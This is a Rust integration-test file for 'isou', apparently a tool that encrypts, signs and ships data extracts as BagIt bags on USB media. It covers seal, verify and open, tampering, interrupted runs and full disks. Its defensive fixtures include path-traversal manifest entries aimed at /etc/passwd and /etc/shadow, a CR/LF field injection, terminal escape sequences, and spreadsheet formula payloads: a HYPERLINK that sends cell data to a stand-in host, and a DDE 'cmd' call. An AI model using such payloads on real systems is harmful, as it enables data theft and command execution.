//! The main path through the binary: keygen → seal → verify → open, with exit codes.

use std::fs;
use std::path::{Path, PathBuf};

use crate::util::*;

struct Flow {
    dir: tempfile::TempDir,
    sender: PathBuf,
    sender_card: String,
    recipient: PathBuf,
    recipient_card: String,
    extract: PathBuf,
}

fn flow() -> Flow {
    let dir = tempfile::tempdir().unwrap();
    let (sender, sender_card) = keygen(dir.path(), "sender.txt");
    let (recipient, recipient_card) = keygen(dir.path(), "recipient.txt");
    let extract = dir.path().join("がん登録抽出");
    fs::create_dir_all(extract.join("2024")).unwrap();
    fs::write(
        extract.join("2024/症例.csv"),
        "登録番号,部位\n1,C18.7\n".repeat(30_000),
    )
    .unwrap();
    fs::write(extract.join("empty.csv"), b"").unwrap();
    fs::write(extract.join("random.bin"), data(1_500_000, 9)).unwrap();
    Flow {
        dir,
        sender,
        sender_card,
        recipient,
        recipient_card,
        extract,
    }
}

fn seal(f: &Flow, medium: &Path, extra: &[&str]) -> std::process::Output {
    fs::create_dir_all(medium).unwrap();
    run(isou()
        .args(["seal", "--class", "anonymized"])
        .args(["--to", &f.recipient_card, "-i"])
        .arg(&f.sender)
        .arg("--medium")
        .arg(medium)
        .args(extra)
        .arg(&f.extract))
}

/// Seals with a ledger of the test's own.
fn seal_recorded(f: &Flow, medium: &Path, ledger: &Path) -> std::process::Output {
    run(isou()
        .env("ISOU_LEDGER", ledger)
        .args(["seal", "--class", "anonymized"])
        .args(["--to", &f.recipient_card, "-i"])
        .arg(&f.sender)
        .arg("--medium")
        .arg(medium)
        .arg(&f.extract))
}

/// A failed seal is not a shipment: the ledger holds no event at all.
fn assert_no_events(ledger: &Path) {
    let events = ledger_events(ledger);
    assert!(events.is_empty(), "{events:?}");
}

#[test]
fn seal_verify_open_round_trip_with_exit_codes() {
    let f = flow();
    let usb = f.dir.path().join("usb");
    let o = seal(
        &f,
        &usb,
        &[
            "--tracking-number",
            "4055-4842-4886",
            "--segment-size",
            "1M",
            "--json",
        ],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let summary: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(summary["tracking_number"], "405548424886");
    assert_eq!(summary["files"], 3);

    let o = run(isou()
        .arg("verify")
        .args(["--signer", &f.sender_card])
        .arg(&usb));
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        stderr(&o)
    );
    let out = String::from_utf8_lossy(&o.stdout);
    // Grouped as on the slip (issue 17); --json keeps the digits.
    assert!(out.starts_with("tracking number: 4055-4842-4886"), "{out}");
    assert!(out.contains("result: VALID"));

    let o = run(isou()
        .arg("verify")
        .arg("--json")
        .args(["--signer", &f.sender_card])
        .arg(&usb));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["valid"], true);
    assert_eq!(v["fields"]["Tracking-Number"], "405548424886");

    // Without --signer: intact, but the sender is not established.
    let o = run(isou().arg("verify").arg(&usb));
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("no --signer was given"));
    // The wrong sender.
    let o = run(isou()
        .arg("verify")
        .args(["--signer", &f.recipient_card])
        .arg(&usb));
    assert_eq!(o.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&o.stdout).contains("not the sender you expect"));

    let got = f.dir.path().join("got");
    let o = run(isou()
        .arg("open")
        .arg(&usb)
        .arg("-i")
        .arg(&f.recipient)
        .arg("--out")
        .arg(&got)
        .args(["--signer", &f.sender_card]));
    assert!(o.status.success(), "{}", stderr(&o));
    for p in ["2024/症例.csv", "empty.csv", "random.bin"] {
        assert_eq!(
            fs::read(got.join("がん登録抽出").join(p)).unwrap(),
            fs::read(f.extract.join(p)).unwrap(),
            "{p}"
        );
    }
    // The sender cannot open it; the output folder is not created.
    let got2 = f.dir.path().join("got2");
    let o = run(isou()
        .arg("open")
        .arg(&usb)
        .arg("-i")
        .arg(&f.sender)
        .arg("--out")
        .arg(&got2)
        .args(["--signer", &f.sender_card]));
    assert_eq!(o.status.code(), Some(3), "{}", stderr(&o));
    assert!(!got2.exists());
    // An existing output folder is refused.
    let o = run(isou()
        .arg("open")
        .arg(&usb)
        .arg("-i")
        .arg(&f.recipient)
        .arg("--out")
        .arg(&got)
        .args(["--signer", &f.sender_card]));
    assert_eq!(o.status.code(), Some(2));
}

#[test]
fn tampered_medium_fails_verify_and_open() {
    let f = flow();
    let usb = f.dir.path().join("usb");
    assert!(seal(&f, &usb, &["--compression", "none"]).status.success());
    let seg = usb.join("data/payload.000");
    let mut d = fs::read(&seg).unwrap();
    d[200_000] ^= 1;
    fs::write(&seg, d).unwrap();
    let o = run(isou()
        .arg("verify")
        .args(["--signer", &f.sender_card])
        .arg(&usb));
    assert_eq!(o.status.code(), Some(1));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        out.contains("problem: data/payload.000: sha256 checksum differs"),
        "{out}"
    );
    assert!(out.contains("result: INVALID"));
    let got = f.dir.path().join("got");
    let o = run(isou()
        .arg("open")
        .arg(&usb)
        .arg("-i")
        .arg(&f.recipient)
        .arg("--out")
        .arg(&got)
        .args(["--signer", &f.sender_card]));
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(!got.exists());
    // Opened from any sender, the segment's hash against the signed manifest still
    // refuses it before a byte of it is decrypted.
    let o = run(isou()
        .arg("open")
        .arg(&usb)
        .arg("-i")
        .arg(&f.recipient)
        .arg("--out")
        .arg(&got)
        .arg("--any-sender"));
    assert!(
        stderr(&o).contains("payload.000 does not match its manifest checksum"),
        "{}",
        stderr(&o)
    );
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(!got.exists());
    assert!(!entries(f.dir.path()).iter().any(|e| e.contains("staging")));
}

#[test]
fn seal_refusals() {
    let f = flow();
    // Wrong check digit: the expected one is named.
    let o = seal(
        &f,
        &f.dir.path().join("m1"),
        &["--tracking-number", "131-12-38385-3"],
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("call for 2"), "{}", stderr(&o));
    // Non-empty medium.
    let m2 = f.dir.path().join("m2");
    fs::create_dir_all(&m2).unwrap();
    fs::write(m2.join("old.txt"), b"x").unwrap();
    let o = seal(&f, &m2, &[]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("is not empty"));
    assert_eq!(entries(&m2), ["old.txt"]);
    // A CR/LF cannot be injected into bag-info.txt.
    let m3 = f.dir.path().join("m3");
    let o = seal(&f, &m3, &["--destination", "大阪\nSigner-Key: forged"]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("line break"));
    assert!(entries(&m3).is_empty(), "{:?}", entries(&m3));
    // An identity without a signing key cannot seal.
    let plain = f.dir.path().join("plain-age.txt");
    write_private(
        &plain,
        format!(
            "{}\n",
            age::secrecy::ExposeSecret::expose_secret(
                &age::x25519::Identity::generate().to_string()
            )
        )
        .as_bytes(),
    );
    let m4 = f.dir.path().join("m4");
    fs::create_dir_all(&m4).unwrap();
    let o = run(isou()
        .args(["seal", "--class", "anonymized"])
        .args(["--to", &f.recipient_card, "-i"])
        .arg(&plain)
        .arg("--medium")
        .arg(&m4)
        .arg(&f.extract));
    assert_eq!(o.status.code(), Some(3), "{}", stderr(&o));
    assert!(stderr(&o).contains("holds no signing key"));
}

#[test]
fn passphrase_medium_and_several_recipients() {
    let f = flow();
    // Several recipients: each can open.
    let (third, third_card) = keygen(f.dir.path(), "third.txt");
    let usb = f.dir.path().join("usb-multi");
    fs::create_dir_all(&usb).unwrap();
    let o = run(isou()
        .args(["seal", "--class", "anonymized"])
        .args(["--to", &f.recipient_card, "--to", &third_card, "-i"])
        .arg(&f.sender)
        .arg("--medium")
        .arg(&usb)
        .arg(&f.extract));
    assert!(o.status.success(), "{}", stderr(&o));
    for (i, id) in [&f.recipient, &third].iter().enumerate() {
        let out = f.dir.path().join(format!("multi-out-{i}"));
        let o = run(isou()
            .arg("open")
            .arg(&usb)
            .arg("-i")
            .arg(id)
            .arg("--out")
            .arg(&out)
            .args(["--signer", &f.sender_card]));
        assert!(o.status.success(), "{}", stderr(&o));
        assert_eq!(
            fs::read(out.join("がん登録抽出/random.bin")).unwrap(),
            data(1_500_000, 9)
        );
    }

    // Passphrase mode: the passphrase comes from a file; the wrong one is refused.
    let pass = f.dir.path().join("pass.txt");
    write_private(&pass, b"correct horse battery staple\n");
    let usb = f.dir.path().join("usb-pass");
    fs::create_dir_all(&usb).unwrap();
    let o = run(isou()
        .args(["seal", "--class", "anonymized"])
        .arg("--passphrase")
        .arg("--passphrase-file")
        .arg(&pass)
        .arg("-i")
        .arg(&f.sender)
        .arg("--medium")
        .arg(&usb)
        .arg(&f.extract));
    assert!(o.status.success(), "{}", stderr(&o));
    let info = fs::read_to_string(usb.join("bag-info.txt")).unwrap();
    assert!(
        info.contains("Encryption: age v1, scrypt passphrase"),
        "{info}"
    );
    let wrong = f.dir.path().join("wrong.txt");
    write_private(&wrong, b"wrong horse\n");
    let out = f.dir.path().join("pass-out");
    let o = run(isou()
        .arg("open")
        .arg(&usb)
        .arg("--passphrase-file")
        .arg(&wrong)
        .arg("--out")
        .arg(&out)
        .args(["--signer", &f.sender_card]));
    assert_eq!(o.status.code(), Some(3), "{}", stderr(&o));
    assert!(stderr(&o).contains("wrong passphrase"));
    assert!(!out.exists());
    let o = run(isou()
        .arg("open")
        .arg(&usb)
        .arg("--passphrase-file")
        .arg(&pass)
        .arg("--out")
        .arg(&out)
        .args(["--signer", &f.sender_card]));
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(fs::read(out.join("がん登録抽出/empty.csv")).unwrap(), b"");
}

#[test]
fn medium_too_small() {
    let f = flow();
    // Uncompressed: the size is known, so isou refuses before writing anything.
    let m = f.dir.path().join("small1");
    let Some(_mount) = small_medium(&m, "1m") else {
        return;
    };
    let o = seal(&f, &m, &["--compression", "none"]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("MB free"), "{}", stderr(&o));
    assert!(entries(&m).is_empty(), "{:?}", entries(&m));

    // Compressed, the final size is unknown: the medium fills up mid-way; isou says so
    // and leaves no bag (nothing at all) behind.
    let m2 = f.dir.path().join("small2");
    let Some(_mount2) = small_medium(&m2, "1m") else {
        return;
    };
    let ledger = f.dir.path().join("small-ledger.sqlite");
    let o = seal_recorded(&f, &m2, &ledger);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("medium is full"), "{}", stderr(&o));
    assert!(entries(&m2).is_empty(), "{:?}", entries(&m2));
    assert_no_events(&ledger);
}

#[test]
fn verify_accepts_plain_bags_from_other_tools() {
    if !have("bagit.py") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let b = dir.path().join("bag");
    fs::create_dir_all(&b).unwrap();
    fs::write(b.join("報告.csv"), "a,b\n").unwrap();
    assert!(run(std::process::Command::new("bagit.py")
        .args(["--sha512"])
        .arg(&b))
    .status
    .success());
    let o = run(isou().arg("verify").arg(&b));
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(o.status.code(), Some(0), "{out}{}", stderr(&o));
    assert!(
        out.contains("a plain BagIt bag") && out.contains("result: VALID"),
        "{out}"
    );
    fs::write(b.join("data/報告.csv"), "a,c\n").unwrap();
    let o = run(isou().arg("verify").arg(&b));
    assert_eq!(o.status.code(), Some(1));
    // Not a folder at all: usage error.
    let o = run(isou().arg("verify").arg(dir.path().join("nope")));
    assert_eq!(o.status.code(), Some(2));
}

#[cfg(unix)]
#[test]
fn interrupted_open_leaves_no_plaintext() {
    // Ctrl-C, a shutdown or `kill` (TERM), the terminal window closed (HUP).
    for sig in ["INT", "TERM", "HUP"] {
        open_stopped_by(sig);
    }
}

fn open_stopped_by(sig: &str) {
    let Some(shim) = crate::faults::shim() else {
        return;
    };
    let f = flow();
    // Large enough that the reader's read-ahead (a few MiB) is full long before the end.
    fs::write(f.extract.join("large.bin"), data(24 << 20, 11)).unwrap();
    let usb = f.dir.path().join("usb");
    assert!(
        seal(&f, &usb, &["--compression", "none", "--segment-size", "8M"])
            .status
            .success()
    );
    // The medium's drive hangs after 24 MiB of segment reads (tests/faults/iofault.c,
    // FAULT_STALL): each segment is read twice, so by then the first 8 MiB segment was
    // checked and extracted, and isou waits with plaintext in its staging folder.
    let out = f.dir.path().join("opened");
    let child = isou()
        .arg("open")
        .arg(&usb)
        .arg("-i")
        .arg(&f.recipient)
        .arg("--out")
        .arg(&out)
        .args(["--signer", &f.sender_card, "--threads", "1"])
        .env("LD_PRELOAD", shim)
        .env("FAULT_PATH", usb.join("data"))
        .env("FAULT_AFTER", (24u64 << 20).to_string())
        .env("FAULT_STALL", "1")
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let staging = || {
        entries(f.dir.path())
            .into_iter()
            .find(|e| e.contains("isou-staging"))
    };
    wait_until("a staging folder with content", || {
        staging().is_some_and(|s| !entries(&f.dir.path().join(s)).is_empty())
    });
    signal(&child, sig);
    let o = child.wait_with_output().unwrap();
    assert_eq!(o.status.code(), Some(130), "SIG{sig}: {}", stderr(&o));
    assert_eq!(
        staging(),
        None,
        "SIG{sig}: the staging folder with plaintext was left behind"
    );
    assert!(!out.exists());
}

#[test]
fn allow_nonempty_keeps_the_users_files_even_when_sealing_fails() {
    let f = flow();
    let m = f.dir.path().join("shared-stick");
    fs::create_dir_all(&m).unwrap();
    // Not data (a photo, a binary file): --allow-nonempty never keeps plaintext.
    fs::write(m.join("photo.jpg"), b"\xff\xd8\xff\xe0\x00\x10JFIF\x00").unwrap();
    fs::write(m.join("logo.png"), b"\x89PNG\r\n\x1a\nmine too").unwrap();
    // A failing seal (bad field) cleans up only what isou wrote.
    let o = seal(&f, &m, &["--allow-nonempty", "--destination", "a\nb"]);
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(entries(&m), ["logo.png", "photo.jpg"]);
    // A successful one leaves them too.
    let o = seal(&f, &m, &["--allow-nonempty"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(
        fs::read(m.join("logo.png")).unwrap(),
        b"\x89PNG\r\n\x1a\nmine too"
    );
    // A file isou would overwrite is refused even with --allow-nonempty.
    let m2 = f.dir.path().join("stick2");
    fs::create_dir_all(&m2).unwrap();
    fs::write(m2.join("README.txt"), b"the user's readme").unwrap();
    let o = seal(&f, &m2, &["--allow-nonempty"]);
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(
        fs::read(m2.join("README.txt")).unwrap(),
        b"the user's readme"
    );
}

#[test]
fn open_with_signer_refuses_edited_tag_files_before_decrypting() {
    let f = flow();
    let usb = f.dir.path().join("usb");
    assert!(seal(&f, &usb, &["--tracking-number", "131-12-38385-2"])
        .status
        .success());
    let info = fs::read_to_string(usb.join("bag-info.txt")).unwrap();
    fs::write(
        usb.join("bag-info.txt"),
        info.replace("13112383852", "40554842488"),
    )
    .unwrap();
    let out = f.dir.path().join("got");
    let o = run(isou()
        .arg("open")
        .arg(&usb)
        .arg("-i")
        .arg(&f.recipient)
        .arg("--out")
        .arg(&out)
        .args(["--signer", &f.sender_card]));
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("bag-info.txt does not match the signed tag manifest"),
        "{}",
        stderr(&o)
    );
    assert!(!out.exists());
}

#[test]
fn output_disk_full_during_open_leaves_no_plaintext() {
    let f = flow();
    let usb = f.dir.path().join("usb-full");
    let o = seal(&f, &usb, &["--compression", "none"]);
    assert!(o.status.success(), "{}", stderr(&o));
    // The protected machine's disk holds 1 MB; the extract is about 3 MB.
    let disk = f.dir.path().join("small-disk");
    let Some(_mount) = small_medium(&disk, "1m") else {
        return;
    };
    let out = disk.join("out");
    let o = run(isou()
        .args(["open", "-i"])
        .arg(&f.recipient)
        .arg("--out")
        .arg(&out)
        .args(["--signer", &f.sender_card])
        .arg(&usb));
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("output disk is full"), "{}", stderr(&o));
    assert!(entries(&disk).is_empty(), "{:?}", entries(&disk));
}

/// A bag folder in `dir` with `data/` and `bagit.txt` only: the rest is up to the test.
fn plain_bag(dir: &Path) -> PathBuf {
    let bag = dir.join("bag");
    fs::create_dir_all(bag.join("data")).unwrap();
    fs::write(
        bag.join("bagit.txt"),
        "BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8\n",
    )
    .unwrap();
    bag
}

#[test]
fn hostile_tag_files_are_reported_bounded() {
    // A 10 MB bag-info.txt line and manifest paths that escape the bag: every problem
    // named, nothing read outside the bag, exit 1.
    let dir = tempfile::tempdir().unwrap();
    let bag = plain_bag(dir.path());
    fs::write(
        bag.join("bag-info.txt"),
        format!("Source-Organization: {}\n", "x".repeat(10_000_000)),
    )
    .unwrap();
    fs::write(bag.join("data/a.csv"), "1\n").unwrap();
    let sum = "4355a46b19d348dc2f57c046f8ef63d4538ebb936000f3c9ee954a27460dd865";
    fs::write(
        bag.join("manifest-sha256.txt"),
        format!(
            "{sum}  data/a.csv\n{sum}  ../../etc/passwd\n{sum}  /etc/shadow\n{sum}  data/../../x\n"
        ),
    )
    .unwrap();
    let o = run(isou().arg("verify").arg(&bag));
    let text = String::from_utf8_lossy(&o.stdout).into_owned();
    assert_eq!(o.status.code(), Some(1), "{text}{}", stderr(&o));
    assert!(
        text.contains("bag-info.txt: larger than 1024 KiB"),
        "{text}"
    );
    assert!(text.contains("an absolute path"), "{text}");
    assert!(
        text.matches("could point outside the bag").count() >= 2,
        "{text}"
    );
    assert!(text.len() < 20_000, "the 10 MB line must not be echoed");
}

#[test]
fn hostile_fields_reach_neither_the_terminal_nor_a_spreadsheet_as_code() {
    // A plain bag from outside whose fields and names carry terminal escape sequences
    // and spreadsheet formulas: verify prints them inert, the ledger keeps them as they
    // are, and the 移送記録簿 CSV (opened in Excel) holds them as text.
    let dir = tempfile::tempdir().unwrap();
    let bag = plain_bag(dir.path());
    let name = "r\x1b[31mred\x07.csv";
    fs::write(bag.join("data").join(name), "1\n").unwrap();
    let info = "Source-Organization: =HYPERLINK(\"http://x/?\"&A1,\"\x1b]0;pwned\x07\")\n\
                External-Identifier: +cmd|' /C calc'!A0\x1b[2J\n\
                Bag-Group-Identifier: @SUM(1)\x1b[1m\n\
                Tracking-Number: -2+3\x1b[5m\n";
    fs::write(bag.join("bag-info.txt"), info).unwrap();
    let sha = |p: &Path| {
        use sha2::Digest;
        let h = sha2::Sha256::digest(fs::read(p).unwrap());
        h.iter().map(|b| format!("{b:02x}")).collect::<String>()
    };
    fs::write(
        bag.join("manifest-sha256.txt"),
        format!("{}  data/{name}\n", sha(&bag.join("data").join(name))),
    )
    .unwrap();
    let tags: String = ["bagit.txt", "bag-info.txt", "manifest-sha256.txt"]
        .iter()
        .map(|t| format!("{}  {t}\n", sha(&bag.join(t))))
        .collect();
    fs::write(bag.join("tagmanifest-sha256.txt"), tags).unwrap();
    // Damaged too, so the problem list names the file.
    fs::write(bag.join("data").join(name), "2\n").unwrap();

    let ledger = dir.path().join("ledger.sqlite");
    let inert = |o: &std::process::Output, what: &str| {
        for (stream, bytes) in [("stdout", &o.stdout), ("stderr", &o.stderr)] {
            assert!(
                !bytes.iter().any(|&b| b == 0x1b || b == 0x07),
                "{what} {stream} carries control characters: {:?}",
                String::from_utf8_lossy(bytes)
            );
        }
    };
    let v = run(isou().env("ISOU_LEDGER", &ledger).arg("verify").arg(&bag));
    assert_eq!(v.status.code(), Some(1), "{}", stderr(&v));
    let text = String::from_utf8_lossy(&v.stdout).into_owned();
    assert!(text.contains("red"), "the damaged file is named: {text}");
    assert!(text.contains("HYPERLINK"), "{text}");
    inert(&v, "verify");
    // Not authenticated: recorded as a check of this medium, under its own id, never
    // under the shipment id it claims.
    let events = ledger_events(&ledger);
    assert_eq!(events.len(), 1, "{events:#?}");
    assert_eq!(events[0]["kind"], "checked");
    let id = events[0]["shipment"].as_str().unwrap().to_string();
    assert!(id.starts_with("MEDIUM-"), "{id}");
    for args in [
        &["record", "list"][..],
        &["record", "show", id.as_str()][..],
    ] {
        let o = run(isou().env("ISOU_LEDGER", &ledger).args(args));
        assert!(o.status.success(), "{args:?}: {}", stderr(&o));
        inert(&o, args[1]);
    }
    let o = run(isou()
        .env("ISOU_LEDGER", &ledger)
        .args(["record", "export", "--format", "csv"]));
    assert!(o.status.success(), "{}", stderr(&o));
    let mut r = csv::Reader::from_reader(&o.stdout[3..]);
    let rows: Vec<Vec<String>> = r
        .records()
        .map(|x| x.unwrap().iter().map(str::to_string).collect())
        .collect();
    // The table ends at the first empty row; the export's provenance follows it.
    let blank = rows.iter().position(|r| r.iter().all(String::is_empty));
    assert_eq!(blank, Some(1), "{rows:?}");
    let rows = &rows[..1];
    let cells: Vec<&String> = rows[0].iter().filter(|c| !c.is_empty()).collect();
    for c in &cells {
        assert!(
            !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell Excel would evaluate: {c:?}"
        );
    }
    // What the medium claimed is kept as a remark, as text.
    for field in ["+cmd", "=HYPERLINK", "-2+3"] {
        assert!(
            cells
                .iter()
                .any(|c| c.starts_with("未認証の媒体") && c.contains(field)),
            "{field} kept as a remark: {cells:?}"
        );
    }
}

#[test]
fn a_file_written_to_while_it_is_sealed_is_refused() {
    // A file still being written (an export job not yet finished) would be sealed as a
    // mix of old and new bytes; seal must refuse it and leave no bag and no record.
    let f = flow();
    let growing = f.extract.join("growing.csv");
    fs::write(&growing, data(32_000_000, 3)).unwrap();
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let writer = {
        let (stop, growing) = (stop.clone(), growing.clone());
        std::thread::spawn(move || {
            use std::io::Write;
            let mut w = fs::OpenOptions::new().append(true).open(growing).unwrap();
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                w.write_all(b"1,C18.7\n").unwrap();
            }
        })
    };
    let medium = f.dir.path().join("medium");
    let ledger = f.dir.path().join("ledger.sqlite");
    fs::create_dir_all(&medium).unwrap();
    let o = seal_recorded(&f, &medium, &ledger);
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    writer.join().unwrap();
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("growing.csv changed while it was being sealed"),
        "{}",
        stderr(&o)
    );
    assert!(entries(&medium).is_empty(), "{:?}", entries(&medium));
    assert_no_events(&ledger);
}
